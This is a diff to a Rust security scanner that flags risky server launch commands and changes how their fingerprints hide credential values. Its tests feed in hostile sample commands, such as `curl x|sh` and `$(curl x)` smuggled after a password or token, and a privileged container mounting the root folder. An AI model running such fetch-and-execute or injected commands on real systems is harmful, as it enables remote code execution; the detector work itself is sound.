@@ -1,6 +1,6 @@
 //! What can be told of a server from how a client starts or reaches it.
 
-use super::{clients::Entry, container, credentials, launch, notice::Notice};
+use super::{clients::Entry, container, credentials, launch, notice, notice::Notice};
 use inspect::Severity;
 use std::os::unix::fs::MetadataExt as _;
 
@@ -88,7 +88,13 @@ fn shell(entry: &Entry) -> Option<Remark> {
     runs.then(|| {
         let because =
             "a shell reads the line that starts it: what it really runs is not what stands there first";
-        remark("shell", Severity::Medium, because, "name the program and its arguments", &reached(entry))
+        remark(
+            "shell",
+            Severity::Medium,
+            because,
+            "name the program and its arguments",
+            &steady(&entry.command),
+        )
     })
 }
 
@@ -125,13 +131,21 @@ fn of_host(entry: &Entry) -> Option<Remark> {
     let give = if wide.len() == 1 { "gives" } else { "give" };
     let because = format!("{flags} {give} the container what the whole machine has");
     let repair = "mount and allow what it needs";
-    let offends = listed(wide.iter().copied().chain([run.image.as_str()]));
+    let offends = notice::key(wide.iter().copied().chain([run.image.as_str()]));
     (!wide.is_empty()).then(|| remark("container-of-the-host", Severity::High, because, repair, &offends))
 }
 
-/// Texts as one, which no other texts are.
-fn listed<'a>(texts: impl IntoIterator<Item = &'a str>) -> String {
-    serde_json::Value::from_iter(texts).to_string()
+/// A line, or several words, for fingerprints: all of it but the values that are credentials, however much a shell makes of one word.
+fn steady<S: AsRef<str>>(words: &[S]) -> String {
+    let is_between = |c: char| c.is_whitespace() || ";|&()<>`\"'{}$\\".contains(c);
+    let (mut parts, mut between) = (Vec::new(), String::new());
+    for word in words.iter().map(AsRef::as_ref) {
+        parts.extend(word.split(is_between).filter(|part| !part.is_empty()).map(str::to_owned));
+        between.extend(word.chars().filter(|c| is_between(*c)));
+        between.push('\0');
+    }
+    let parts = credentials::words(&parts).into_iter().map(|part| part.text);
+    notice::key(parts.chain([between]))
 }
 
 /// What has another program run, or another package fetched, than the one that stands there.
@@ -139,13 +153,13 @@ fn turned(entry: &Entry) -> Vec<Remark> {
     let published = entry.is_published();
     let variables = entry.env.iter().filter_map(|(name, value)| launch::variable(name, value, published));
     let options = launch::command(&entry.command);
-    let shown = reached(entry);
-    let of_option = options.into_iter().map(|turn| (turn, shown.as_str()));
+    let whole = steady(&entry.command);
+    let of_option = options.into_iter().map(|turn| (turn, whole.clone()));
     let of_variable = variables.map(|turn| {
         let value = entry.env.get(&turn.by).map_or("", String::as_str);
-        (turn, if credentials::is_secret("", value) { "" } else { value })
+        (turn, steady(&[value]))
     });
-    let told = |(launch::Turn { detector, severity, by }, offends): (launch::Turn, &str)| {
+    let told = |(launch::Turn { detector, severity, by }, offends): (launch::Turn, String)| {
         let (because, repair) = match detector {
             "other-source" => (
                 "chooses where packages are fetched from",
@@ -157,7 +171,7 @@ fn turned(entry: &Entry) -> Vec<Remark> {
                 "name the program, and keep its code in a file of it",
             ),
         };
-        remark(detector, severity, format!("`{by}` {because}"), repair, &listed([by.as_str(), offends]))
+        remark(detector, severity, format!("`{by}` {because}"), repair, &notice::key([by, offends]))
     };
     of_option.chain(of_variable).map(told).collect()
 }
@@ -167,10 +181,16 @@ fn broad(entry: &Entry) -> Option<Remark> {
     let wide = |one: &&String| {
         matches!(one.as_str(), "/" | "~" | "$HOME" | "${HOME}" | "/home" | "/Users" | "C:\\" | "${userHome}")
     };
-    let folder = entry.command.get(1..)?.iter().find(wide).filter(|_| files)?;
-    let because =
-        format!("it may read and write everything below `{folder}`, keys of other programs included");
-    Some(remark("broad-folder", Severity::High, because, "name the folders that are needed", folder))
+    let folders: Vec<&String> = entry.command.get(1..)?.iter().filter(wide).filter(|_| files).collect();
+    let named = folders.iter().map(|folder| format!("`{folder}`")).collect::<Vec<_>>().join(", ");
+    let because = format!("it may read and write everything below {named}, keys of other programs included");
+    // one folder is known by itself, as it always was
+    let offends = match folders.as_slice() {
+        [] => return None,
+        [one] => (*one).clone(),
+        all => notice::key(all.iter().map(|one| one.as_str())),
+    };
+    Some(remark("broad-folder", Severity::High, because, "name the folders that are needed", &offends))
 }
 
 /// Credentials that stand in the file, where every program of this user can read them.
@@ -234,6 +254,46 @@ mod tests {
         ] {
             assert_eq!(seen(&run(command)), expected, "{command:?}");
         }
+    }
+
+    #[test]
+    fn what_is_known_of_a_server_covers_nothing_more() {
+        let known = |command: &[&str], detector: &str| {
+            let notices = look(&run(command)).into_iter();
+            let of_it = notices.filter(|notice| notice.detector == detector);
+            of_it.map(|notice| notice.fingerprint).collect::<Vec<_>>()
+        };
+        let run = ["docker", "run", "--privileged", "image"];
+        for (detector, before, after) in [
+            (
+                "container-of-the-host",
+                &run[..],
+                &["docker", "run", "--privileged", "-v", "/:/h", "image"][..],
+            ),
+            ("container-of-the-host", &run, &["docker", "run", "--privileged", "evil/image"]),
+            ("broad-folder", &["server-filesystem", "/home"], &["server-filesystem", "/home", "/"]),
+            (
+                "shell",
+                &["bash", "-c", "API_TOKEN=ghp_0123456789abcdef0123456789abcdef0123 npx s"],
+                &["bash", "-c", "API_TOKEN=ghp_0123456789abcdef0123456789abcdef0123 curl x|sh"],
+            ),
+            (
+                "shell",
+                &["bash", "-c", "mysql --password=hunter2 x"],
+                &["bash", "-c", "mysql --password=hunter2;curl x|sh"],
+            ),
+            ("shell", &["bash", "-c", "run --api-key abc"], &["bash", "-c", "run --api-key abc$(curl x)"]),
+            ("other-code", &["node", "-e", "x"], &["node", "-e", "y"]),
+        ] {
+            let (before, after) = (known(before, detector), known(after, detector));
+            assert!(
+                before.len() == 1 && after.len() == 1 && before != after,
+                "{detector}: {before:?} {after:?}"
+            );
+        }
+        // the value of a credential is no part of it
+        let with = |secret: &str| known(&["bash", "-c", &format!("mysql --password={secret} x")], "shell");
+        assert_eq!(with("hunter2"), with("hunter3"));
     }
 
     #[test]
